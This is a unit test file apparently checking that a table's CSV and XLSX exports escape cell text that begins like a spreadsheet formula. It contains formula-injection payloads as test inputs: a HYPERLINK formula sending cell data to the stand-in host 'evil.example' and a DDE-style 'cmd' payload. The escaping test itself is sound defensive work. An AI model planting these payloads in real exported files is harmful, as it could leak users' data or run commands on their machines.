import ExcelJS from 'exceljs';
import { expect, it } from 'vitest';
import { toCsv } from './table.ts';
import { XLSX_HEADER_ROW, xlsxBytes } from './xlsx.ts';

// a unit (or custom group) whose name a spreadsheet would run: a link, a sum, a DDE-style call
const HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")';
const table = {
  columns: [
    { key: 'unit', label: '单位' },
    { key: 'value', label: '数值' },
  ],
  rows: [
    { unit: HOSTILE, value: 3 },
    { unit: "+1+cmd|' /C calc'!A0", value: -2 },
    { unit: '@SUM(1,2)', value: null },
    { unit: '-1', value: 1.5 },
    { unit: '安平县气象局', value: 4 },
  ],
};

it('CSV: text that starts like a formula is written as text, numbers stay numbers', () => {
  expect(toCsv(table)).toBe(
    '\uFEFF单位,数值\r\n' +
      `"'=HYPERLINK(""http://evil.example/?d=""&A1,""点此查看"")",3\r\n` +
      "'+1+cmd|' /C calc'!A0,-2\r\n" +
      `"'@SUM(1,2)",\r\n` +
      "'-1,1.5\r\n" +
      '安平县气象局,4\r\n',
  );
});

it('XLSX: no text cell (title, context, header or row) starts like a formula, numbers stay numbers', async () => {
  const bytes = await xlsxBytes(table, { title: `=${HOSTILE}`, context: '+2024年', sourceLine: '@数据来源' });
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes);
  const ws = wb.worksheets[0]!;
  const col = (c: number) =>
    Array.from({ length: table.rows.length }, (_, i) => ws.getCell(XLSX_HEADER_ROW + 1 + i, c).value);
  expect([1, 2, 3].map((r) => ws.getCell(r, 1).value)).toEqual([`'=${HOSTILE}`, "'+2024年", "'@数据来源"]);
  expect(col(1)).toEqual([`'${HOSTILE}`, "'+1+cmd|' /C calc'!A0", "'@SUM(1,2)", "'-1", '安平县气象局']);
  expect(col(2)).toEqual([3, -2, null, 1.5, 4]);
  for (let r = 1; r <= ws.rowCount; r++)
    ws.getRow(r).eachCell((cell) => expect(cell.type, cell.address).not.toBe(ExcelJS.ValueType.Formula));
});
